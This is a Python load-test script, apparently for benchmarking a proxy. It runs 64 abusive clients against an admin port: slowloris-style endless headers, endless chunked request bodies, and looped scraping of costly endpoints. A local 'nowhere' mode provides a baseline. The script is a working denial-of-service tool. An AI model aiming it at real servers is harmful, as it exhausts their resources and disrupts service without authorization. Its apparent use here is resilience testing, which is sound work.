#!/usr/bin/env python3
"""64 clients of an admin port that mean no good, until killed: hostile.py ADDRESS PORT | hostile.py nowhere

A third sends heads that never end, a byte at a time; a third bodies that never end; a third scrapes in
a loop, and asks for whatever else costs most. The process steps back for any other (SCHED_IDLE), so
that it costs the load generator little. It does cost it: `nowhere` attacks a server of its own instead, which is
what the proxy is compared with.
"""
import itertools
import os
import socket
import sys
import threading
import time

CLIENTS = 64
PAUSE = 0.005  # without one they slow the load generator, on whose core they run, and nothing else is seen
HEAD = b"GET /api/v1/status HTTP/1.1\r\nHost: localhost\r\nX: "
BODY = (b"POST /api/v1/config/validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/yaml\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n")
CHUNK = b"4000\r\n" + b"#" * 0x4000 + b"\r\n"
ASKED = itertools.cycle(["/metrics", "/api/v1/status", "/metrics", "/api/v1/config?defaults=1", "/metrics"])


def slow_head(client):
    client.sendall(HEAD)
    while True:
        client.sendall(b"x")
        time.sleep(2 * PAUSE)


def endless_body(client):
    client.sendall(BODY)
    while True:
        client.sendall(CHUNK)
        time.sleep(PAUSE)


def scrape(client):
    while True:
        client.sendall(f"GET {next(ASKED)} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 4)
        client.recv(1 << 16)
        time.sleep(PAUSE)


def attack(address, kind):
    while True:
        try:
            with socket.create_connection(address, 5) as client:
                kind(client)
        except OSError:
            time.sleep(PAUSE)


def swallow(client):
    """Answers whatever comes with a page of metrics, as long as it comes."""
    with client:
        while client.recv(1 << 16):
            client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 16384\r\n\r\n" + b"#" * 0x4000)


def serve(listener):
    while True:
        client, _ = listener.accept()
        threading.Thread(target=swallow, args=(client,), daemon=True).start()


def own_server():
    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=serve, args=(listener,), daemon=True).start()
    return listener.getsockname()


def main():
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    address = own_server() if sys.argv[1] == "nowhere" else (sys.argv[1], int(sys.argv[2]))
    kinds = itertools.cycle([slow_head, endless_body, scrape])
    for _ in range(CLIENTS):
        threading.Thread(target=attack, args=(address, next(kinds)), daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
